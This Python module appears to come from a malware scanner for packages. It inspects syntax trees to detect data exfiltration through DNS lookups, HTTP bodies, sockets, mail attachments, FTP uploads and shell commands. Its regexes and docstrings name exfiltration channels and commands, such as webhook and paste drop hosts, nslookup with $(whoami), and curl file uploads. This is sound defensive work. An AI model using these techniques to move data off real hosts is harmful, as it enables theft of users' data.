"""Exfiltration at the syntax-tree level: host data or secrets spelled into a name that is resolved (DNS), and
host data, sensitive files or the environment sent in a request body or over a socket.

Each check takes the file's scan (``python_rules._FileScan``), the call, its scope and the call's qualified name.
What counts as host data is narrow on purpose: a user name, a host name, a directory listing, the files where
keys and histories live. An API client sending its own token or the platform in a User-Agent is not one.
"""

from __future__ import annotations

import ast
import re

from pypi_platform.lib.scans import sends
from pypi_platform.lib.scans.call_roles import NETWORK, PROCESS, qualified
from pypi_platform.lib.scans.host_data import carries_host_data, sensitive_file_read
from pypi_platform.lib.scans.syntax_walk import argument

_ENCODERS = qualified("base64", "b64encode", "b32encode", "b16encode", "urlsafe_b64encode") | {
    "binascii.hexlify"
}
_RESOLVERS = qualified("socket", "gethostbyname", "gethostbyname_ex", "getaddrinfo") | qualified(
    "dns.resolver", "resolve", "query"
)
_HTTP_SENDERS = {
    target for target in NETWORK if target.rpartition(".")[2] in ("post", "put", "patch", "request")
}
_HTTP_SENDERS |= {"urllib.request.urlopen", "urllib.request.Request", "urllib2.urlopen", "urllib2.Request"}
_BODY_KEYWORDS = ("data", "json", "params", "files", "body", "content")
_DROP_HOSTS = re.compile(
    r"discord(?:app)?\.com/api/webhooks|hooks\.slack\.com|api\.telegram\.org/bot|webhook\.site|pastebin\.com"
    r"|paste\.ee|transfer\.sh|requestbin|pipedream\.net|ngrok",
    re.IGNORECASE,
)

# Lookups and uploads through command-line tools: a name with host data or shell substitutions in it, a file
# posted with curl.
_LOOKUP_TOOLS = re.compile(r"^(?:nslookup|dig|host|drill|resolvectl\s+query)\b", re.IGNORECASE)
_SHELL_HOST_DATA = re.compile(
    r"\$\((?:whoami|hostname|id|uname)[^)]*\)|`(?:whoami|hostname)`|%(?:username|computername)%", re.I
)
_CURL_UPLOAD = re.compile(
    r"\bcurl\b.*(?:\s-F\s*\S*=@|--data-binary\s+@|\s-T\s|--upload-file\b)", re.IGNORECASE
)

_COMPOSED = (ast.JoinedStr, ast.BinOp, ast.Call, ast.Name)
# Mail attachments and FTP uploads: the file handed over is the payload.
_ATTACHING = ("add_attachment", "attach", "storbinary", "storlines")

ROLES = (
    ("url", NETWORK),
    ("resolve-name", _RESOLVERS),
    ("send-http", _HTTP_SENDERS),
    ("exfil-command", PROCESS),
    *sends.ROLES,
)


def check_resolution(scan, call: ast.Call, scope: int, target: str) -> None:
    """gethostbyname(f"{getpass.getuser()}.{host}"): the data travels in the name being looked up. Only a name
    built from pieces (an f-string, a concatenation, a format or a join) carries it: the bare host name resolved
    by itself, gethostbyname(gethostname()), is how a program finds its own address."""
    name = argument(call, 0, "host") or argument(call, 0, "qname")
    if name is None:
        return
    composed = _composed_name(scan, name, scope)
    if composed is None or _LINK_LOCAL_NAME.search(_last_constant(scan, composed, scope)):
        return
    source = carries_host_data(scan, composed, scope) or _encoded_value(scan, composed, scope)
    for looped in sends.loop_sources(scan, composed, scope) if source is None else ():
        source = carries_host_data(scan, looped, scope) or _encoded_value(scan, looped, scope)
        if source is not None:
            break
    if source is not None:
        scan.add("exfiltration.dns", call, evidence=f"{source} in a name looked up with {target}")


# hostname + ".local" is answered by multicast DNS on the local link: no outside server ever sees the name.
_LINK_LOCAL_NAME = re.compile(r"\.(?:local|localdomain)\.?$", re.IGNORECASE)


def _last_constant(scan, expr: ast.expr, scope: int) -> str:
    texts = [
        node.value
        for node in scan.subtree([expr], scope, follow_names=False)
        if node.__class__ is ast.Constant and node.value.__class__ is str
    ]
    return texts[-1] if texts else ""


def _composed_name(scan, name: ast.expr, scope: int) -> ast.expr | None:
    """The expression a looked-up name is built by, when it is built from pieces; one level of names followed."""
    candidates = [name] if name.__class__ is not ast.Name else scan.assigned(scope, name.id)
    for value in candidates:
        cls = value.__class__
        if cls is ast.JoinedStr or (cls is ast.BinOp and value.op.__class__ in (ast.Add, ast.Mod)):
            return value
        if (
            cls is ast.Call
            and value.func.__class__ is ast.Attribute
            and value.func.attr in ("format", "join")
        ):
            return value
    return None


def _encoded_value(scan, expr: ast.expr, scope: int) -> str | None:
    for node in scan.subtree([expr], scope, follow_names=True):
        if node.__class__ is ast.Call:
            target = scan.resolve(node.func)
            if target in _ENCODERS or (node.func.__class__ is ast.Attribute and node.func.attr == "hex"):
                return target or "hex()"
    return None


def check_http_send(scan, call: ast.Call, scope: int, target: str) -> None:
    body = [keyword.value for keyword in call.keywords if keyword.arg in _BODY_KEYWORDS]
    body += call.args[1:3] if target.rpartition(".")[2] != "request" else call.args[2:4]
    url = " ".join(
        node.value
        for node in scan.subtree(call.args[:1], scope, follow_names=True)
        if node.__class__ is ast.Constant and node.value.__class__ is str
    )
    _check_sent(scan, call, scope, body, target, drop=bool(_DROP_HOSTS.search(url)))


def check_url(scan, call: ast.Call, scope: int, target: str) -> None:
    """Host data in the address itself: "https://stats.example/i?u=" + getpass.getuser(), an f-string URL."""
    url = argument(call, 1 if target.endswith(".request") or target == "request" else 0, "url")
    if url is not None and url.__class__ in _COMPOSED:
        source = carries_host_data(scan, url, scope)
        if source is not None:
            scan.add("exfiltration.host-data", call, evidence=f"{source} sent in the address of {target}")


def check_sending_method(scan, call: ast.Call, scope: int, method: str) -> None:
    """session.post(...), conn.request("POST", path, body=...), sock.sendall(...) on objects we cannot name.

    A .get on an object that is not known to be an HTTP client is a dict's (or a config's) get, so it only
    counts on a session or client: one constructed in the call itself or bound to the name it is called on."""
    sends.check_request_on_connection(scan, call, scope, method)
    if method == "get" and not _is_http_client(scan, call.func.value, scope):
        return
    if method in ("request", "get", "post", "put"):
        check_url(scan, call, scope, method)
    body = [keyword.value for keyword in call.keywords if keyword.arg in _BODY_KEYWORDS]
    body += (
        call.args[2:4]
        if method == "request"
        else call.args[:2]
        if method in _ATTACHING
        else call.args[:1]
        if method.startswith("send")
        else call.args[1:3]
    )
    _check_sent(scan, call, scope, body, method, drop=False)


def _is_http_client(scan, receiver: ast.expr, scope: int) -> bool:
    values = [receiver]
    if receiver.__class__ is ast.Name:
        values = scan.assigned(scope, receiver.id)
    return any(value.__class__ is ast.Call and scan.resolve(value.func) in NETWORK for value in values)


def _check_sent(scan, call: ast.Call, scope: int, body: list[ast.expr], how: str, *, drop: bool) -> None:
    if call.func.__class__ is ast.Attribute and call.func.attr in _ATTACHING:
        sends.record_attachment(scan, call, scope)
    sends.mark_gathered_environment(scan, body, scope, how)
    for part in body:
        source = carries_host_data(scan, part, scope) or sensitive_file_read(scan, part, scope, drop=drop)
        if source is not None:
            scan.add("exfiltration.host-data", call, evidence=f"{source} sent with {how}")
            return


def check_command(scan, call: ast.Call, scope: int, target: str) -> None:
    """nslookup "$(whoami).$(hostname).zone.example", dig with host data, curl -F "f=@file" URL."""
    command = scan.command_text(call, scope).strip()
    if _LOOKUP_TOOLS.search(command) or re.search(r"[;&|]\s*(?:nslookup|dig|host)\b", command):
        source = _SHELL_HOST_DATA.search(command)
        found = (
            source.group(0)
            if source
            else next(filter(None, (carries_host_data(scan, part, scope) for part in call.args[:2])), None)
        )
        if found is not None:
            scan.add("exfiltration.dns", call, evidence=f"{found} in a name looked up with a command")
    elif _CURL_UPLOAD.search(command):
        scan.add("exfiltration.host-data", call, evidence="a file uploaded with curl")


def check_resolver_method(scan, call: ast.Call, scope: int, method: str) -> None:
    """resolver.resolve(name) on a dns.resolver.Resolver held in a name."""
    if call.args:
        check_resolution(scan, call, scope, method)


def check_webhook_client(scan, call: ast.Call, scope: int, target: str) -> None:
    sends.check_webhook_client(scan, call, scope, target, sent=_check_sent)


def finish(scan) -> None:
    sends.finish(scan)
    sends.mail_finish(scan)


CHECKS = {
    "webhook-client": check_webhook_client,
    "address-fold": sends.check_address_fold,
    "url": check_url,
    "resolve-name": check_resolution,
    "send-http": check_http_send,
    "exfil-command": check_command,
}
METHOD_CHECKS = dict.fromkeys(
    ("post", "put", "get", "request", "send", "sendall", "sendto", *_ATTACHING), check_sending_method
)
METHOD_CHECKS.update(dict.fromkeys(("resolve", "query"), check_resolver_method))
METHOD_CHECKS.update(dict.fromkeys(sends.MAIL_SENDS, sends.check_mail_send))
